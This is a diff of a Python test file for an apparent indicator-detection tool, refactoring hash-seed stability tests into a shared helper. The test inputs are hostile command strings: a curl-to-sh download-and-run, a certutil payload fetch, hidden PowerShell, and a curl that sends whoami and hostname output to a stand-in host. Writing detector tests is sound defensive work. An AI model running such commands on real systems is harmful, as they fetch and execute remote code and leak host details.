@@ -129,41 +129,34 @@ def test_hint_trie_finds_what_the_plain_alternation_finds() -> None:
         assert trie.findall(text) == plain.findall(text), text
 
 
-def test_indicator_order_does_not_depend_on_the_hash_seed() -> None:
+def _outputs_under_hash_seeds(probe: str) -> set[str]:
+    """What ``probe`` prints, run by four interpreters with different hash seeds."""
     import os
     import subprocess
     import sys
 
-    probe = (
+    return {
+        subprocess.run(
+            [sys.executable, "-c", probe], capture_output=True, text=True, check=True,
+            env={**os.environ, "PYTHONHASHSEED": seed},
+        ).stdout
+        for seed in ("1", "2", "3", "4")
+    }
+
+
+def test_indicator_order_does_not_depend_on_the_hash_seed() -> None:
+    seen = _outputs_under_hash_seeds(
         "from capwatch.capabilities.indicators import find_indicators\n"
         "print(list(find_indicators('powershell -w hidden x; curl http://h/a | sh; "
         "certutil -urlcache -f http://198.51.100.3/a.exe; https://pastebin.com/raw/x')))\n"
     )
-    seen = {
-        subprocess.run(
-            [sys.executable, "-c", probe], capture_output=True, text=True, check=True,
-            env={**os.environ, "PYTHONHASHSEED": seed},
-        ).stdout
-        for seed in ("1", "2", "3", "4")
-    }
     assert len(seen) == 1, seen
 
 
 def test_command_capabilities_do_not_depend_on_the_hash_seed() -> None:
-    import os
-    import subprocess
-    import sys
-
-    probe = (
+    seen = _outputs_under_hash_seeds(
         "from capwatch.capabilities.shell import shell_capabilities\n"
         "print(shell_capabilities('curl -H \"u: $(whoami)\" -H \"h: $(hostname)\" "
         "https://x.invalid; id; uname -a; printenv'))\n"
     )
-    seen = {
-        subprocess.run(
-            [sys.executable, "-c", probe], capture_output=True, text=True, check=True,
-            env={**os.environ, "PYTHONHASHSEED": seed},
-        ).stdout
-        for seed in ("1", "2", "3", "4")
-    }
     assert len(seen) == 1, seen
